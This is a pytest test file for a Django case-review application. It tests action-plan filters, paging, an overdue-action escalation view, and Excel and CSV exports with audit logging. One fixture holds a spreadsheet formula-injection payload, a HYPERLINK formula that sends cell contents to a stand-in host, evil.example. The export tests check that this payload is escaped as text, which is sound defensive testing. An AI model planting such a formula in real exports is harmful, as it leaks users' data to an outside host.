"""The composite plan's filters, the escalation view and the exports, read back."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from casereviews.actions import selectors, services
from casereviews.core.models import AuditLog
from casereviews.learning.models import Finding, ThemeTag
from tests.actions.conftest import TODAY
from tests.factories import AgencyFactory, ReviewFactory
from tests.sql import starting_with, statements_of_get


def _action(world, rec, agency, due, status="red", text="An action"):
    return services.create_action(
        world.business_unit,
        rec,
        agency=agency,
        description=text,
        lead_role="Lead",
        due_on=due,
        status=status,
    )


@pytest.fixture
def plan(world, review):
    """Two reviews, three agencies, actions of every status, some overdue."""
    education = AgencyFactory(partnership=world.partnership, name="Northshire Education")
    finding = Finding.objects.create(review=review, number=1, text="Fathers were not seen.")
    ThemeTag.objects.create(
        finding=finding, theme_id="fathers-men", source="person", state="accepted"
    )
    other_finding = Finding.objects.create(review=review, number=2, text="Records were poor.")
    ThemeTag.objects.create(
        finding=other_finding, theme_id="recording", source="engine", state="suggested"
    )
    rec1 = services.create_recommendation(
        world.business_unit, review, text="Fathers", findings=[finding]
    )
    rec2 = services.create_recommendation(
        world.business_unit, review, text="Records", findings=[other_finding]
    )
    second = ReviewFactory(partnership=world.partnership, ref="Ref060")
    rec3 = services.create_recommendation(world.business_unit, second, text="Other review")
    return {
        "education": education,
        "second": second,
        # overdue: police 2 (40 and 10 days), health 1 (100 days), education 0
        "p_old": _action(world, rec1, world.police, TODAY - dt.timedelta(days=40), "amber"),
        "p_new": _action(world, rec2, world.police, TODAY - dt.timedelta(days=10)),
        "h_old": _action(world, rec3, world.health, TODAY - dt.timedelta(days=100)),
        "p_done": _action(world, rec1, world.police, TODAY - dt.timedelta(days=50), "green"),
        "e_soon": _action(world, rec3, education, TODAY + dt.timedelta(days=20)),
        "e_later": _action(world, rec3, education, TODAY + dt.timedelta(days=90), "amber"),
    }


def _ids(queryset):
    return {a.pk for a in queryset}


def test_plan_filters(world, plan, review):
    user = world.business_unit
    p = plan
    assert _ids(selectors.plan_actions(user, agency_id=world.police.pk)) == {
        p["p_old"].pk,
        p["p_new"].pk,
        p["p_done"].pk,
    }
    assert _ids(selectors.plan_actions(user, review_id=p["second"].pk)) == {
        p["h_old"].pk,
        p["e_soon"].pk,
        p["e_later"].pk,
    }
    # Only an accepted tag counts: the engine's undecided "recording" does not.
    assert _ids(selectors.plan_actions(user, theme_id="fathers-men")) == {
        p["p_old"].pk,
        p["p_done"].pk,
    }
    assert _ids(selectors.plan_actions(user, theme_id="recording")) == set()
    assert _ids(selectors.plan_actions(user, status="amber")) == {
        p["p_old"].pk,
        p["e_later"].pk,
    }
    assert _ids(selectors.plan_actions(user, due="overdue")) == {
        p["p_old"].pk,
        p["p_new"].pk,
        p["h_old"].pk,
    }
    assert _ids(selectors.plan_actions(user, due="next_30_days")) == {p["e_soon"].pk}
    assert _ids(
        selectors.plan_actions(user, agency_id=world.police.pk, due="overdue", status="red")
    ) == {p["p_new"].pk}


def test_plan_page_counts_and_filters(world, client_for, plan):
    client = client_for(world.business_unit)
    response = client.get(reverse("actions:plan"))
    assert "Status of 6 actions" in response.text
    assert "Not started, or off track." in response.text  # the definitions are on the page
    response = client.get(reverse("actions:plan"), {"due": "overdue", "agency": world.police.pk})
    assert "Status of 2 actions matching the filters" in response.text
    assert f"format=xlsx&amp;agency={world.police.pk}&amp;due=overdue" in response.text


def test_plan_pages(world, client_for, review):
    rec = services.create_recommendation(world.business_unit, review, text="Many")
    for n in range(30):
        _action(world, rec, world.police, TODAY + dt.timedelta(days=n), text=f"Action {n:02d}")
    client = client_for(world.business_unit)
    first = client.get(reverse("actions:plan"))
    assert "Action 00" in first.text and "Action 29" not in first.text
    assert "page 1 of 2" in first.text
    second = client.get(reverse("actions:plan"), {"page": 2})
    assert "Action 29" in second.text and "Action 00" not in second.text


def test_escalation_groups_by_agency_most_overdue_first(world, client_for, plan):
    response = client_for(world.business_unit).get(reverse("actions:escalation"))
    text = response.text
    assert "3 overdue actions" in text
    police, health = (
        text.index("Northshire Police: 2 overdue"),
        text.index("Northshire Health: 1 overdue"),
    )
    assert police < health
    assert "Northshire Education:" not in text  # nothing overdue
    # In each agency, the longest overdue first, with its days overdue.
    assert text.index(">40<") < text.index(">10<")
    assert ">100<" in text


def test_escalation_chooses_its_page_before_reading_the_reviews(world, client_for, plan):
    """The page of overdue actions is chosen from the actions alone (a join to every
    recommendation and review came first on PostgreSQL at national scale); each row still
    names its review and agency, and the Review sort still orders by the review."""
    client = client_for(world.business_unit)
    statements, text = statements_of_get(client, reverse("actions:escalation"))
    page_reads = starting_with(statements, 'SELECT "actions_action"."id"')
    assert len(page_reads) == 1
    assert "actions_recommendation" not in page_reads[0].split(" FROM ")[1].split(" WHERE ")[0]
    assert f"{plan['h_old'].recommendation.review.ref}, rec." in text
    assert "Northshire Police: 2 overdue" in text
    by_review = client.get(reverse("actions:escalation"), {"sort": "review"})
    assert by_review.status_code == 200 and "3 overdue actions" in by_review.text


def test_escalation_shows_the_date_of_the_last_update(world, client_for, plan):
    services.add_update(
        world.business_unit,
        plan["h_old"],
        kind="progress",
        written_on=dt.date(2026, 9, 14),
        text="Chased the Named Nurse.",
    )
    text = client_for(world.business_unit).get(reverse("actions:escalation")).text
    assert "14 September 2026" in text
    assert "No updates" in text  # the others have none


@pytest.fixture
def hostile(world, review):
    rec = services.create_recommendation(
        world.business_unit, review, text="+Recommendations can start with a plus"
    )
    return services.create_action(
        world.business_unit,
        rec,
        agency=world.police,
        description='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        lead_role="@Lead",
        due_on=dt.date(2026, 9, 1),
        success_measure="-1 incidents",
    )


def test_excel_export_reads_back(world, client_for, hostile):
    response = client_for(world.business_unit).get(reverse("actions:export"), {"format": "xlsx"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Review", "Recommendation number", "Recommendation", "Action"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["D"].width == 60
    assert sheet.auto_filter.ref == "A1:L2"  # the heading and the one action
    row = [c.value for c in sheet[2]]
    assert row[0] == "Ref057"
    assert row[3] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert sheet.cell(2, 4).data_type == "s"  # text, not a formula
    assert row[2].startswith("'+") and row[5] == "'@Lead" and row[9] == "'-1 incidents"
    assert row[6] == dt.datetime(2026, 9, 1)  # a real date
    assert sheet.cell(2, 7).number_format == "dd/mm/yyyy"
    assert row[7] == "Red" and row[11] == "Yes"
    entry = AuditLog.objects.get(action="export")
    assert entry.changes["format"] == "xlsx" and entry.changes["records"] == 1


def test_csv_export_reads_back_with_the_filters(world, client_for, hostile, health_action):
    response = client_for(world.business_unit).get(
        reverse("actions:export"), {"format": "csv", "agency": world.police.pk}
    )
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert rows[0][0] == "Review"
    assert len(rows) == 2  # the filter applies: health's action is left out
    assert rows[1][3].startswith("'=HYPERLINK(")
    assert rows[1][6] == "2026-09-01"
    entry = AuditLog.objects.get(action="export")
    assert entry.changes["filters"] == {"agency": str(world.police.pk)}


def test_an_agency_lead_has_a_shortcut_to_their_own_agencys_actions(world, client_for, plan):
    client = client_for(world.subgroup_member)
    page = client.get(reverse("actions:plan"))
    assert "Show only Northshire Police's actions" in page.text
    own = client.get(reverse("actions:plan"), {"agency": world.police.pk})
    assert "Status of 3 actions matching the filters" in own.text
    assert "Show only" not in own.text
